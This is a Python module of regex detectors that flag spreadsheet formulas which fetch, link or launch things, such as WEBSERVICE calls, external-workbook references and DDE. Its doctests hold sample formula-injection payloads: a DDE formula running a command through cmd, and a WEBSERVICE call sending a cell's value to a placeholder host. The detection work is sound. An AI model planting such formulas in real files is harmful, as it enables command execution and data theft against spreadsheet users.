"""Formulas as text: what calls out of the workbook, and what merely computes."""

import re
from typing import Final

_CALLING: Final = re.compile(
    r"""(?:\b|_XLFN\.|_XLWS\.)(?:WEBSERVICE|IMAGE|HYPERLINK|RTD|FILTERXML|ENCODEURL|CALL|REGISTER(?:\.ID)?|EXEC
    |SQL\.REQUEST|SQL\.OPEN|IMPORT(?:XML|DATA|HTML|RANGE|FEED)|STOCKHISTORY|CUBE(?:MEMBER|VALUE|SET)
    |COM\.MICROSOFT\.\w{1,30}SERVICE|FWEBSERVICE)\s{0,9}\(""",
    re.VERBOSE | re.IGNORECASE,
)
_OTHER_BOOK: Final = re.compile(
    r"(?<![\w\]])\[[^\[\]]{1,255}\][^\[\]!'\"+*/(),;=<>&^-]{0,80}'?!|'(?:file|https?|ftp|smb):[^']{1,500}'#|\\\\\w",
    re.IGNORECASE,
)
_DDE: Final = re.compile(
    r"[\w.$'-]{1,40}\|'?[^|\"]{0,300}'?!|(?:^|[^\w.])DDE(?:AUTO)?\s{0,9}\(", re.IGNORECASE
)
_LOOKED_AT: Final = 8_192
_PREFIX: Final = re.compile(r"(?:of|oooc|msoxl|ooow):")


def calls_out(formula: str) -> bool:
    """Whether a formula would fetch, link or start something if another program computed it.

    >>> calls_out('_xlfn.WEBSERVICE("http://x.example/"&A1)'), calls_out("SUM(A1:A9)")
    (True, False)
    """
    text = formula[:_LOOKED_AT]
    return bool(_CALLING.search(text) or _OTHER_BOOK.search(text) or is_dde(text))


def is_dde(formula: str) -> bool:
    """Whether a formula asks another program through DDE.

    >>> is_dde("cmd|'/C calc'!A0")
    True
    """
    text = formula[:_LOOKED_AT]
    return ("|" in text or "DDE" in text.upper()) and bool(_DDE.search(text))


def as_shown(formula: str) -> str:
    """A formula as a person would see it: with its equals sign, without the dialect's name.

    >>> as_shown("of:=[.A1]+1"), as_shown("A1+1")
    ('=[.A1]+1', '=A1+1')
    """
    text = (
        _PREFIX.sub("", formula, count=1) if formula[:6].lower().startswith(("o", "m")) else formula
    )
    return text if text.startswith("=") else "=" + text
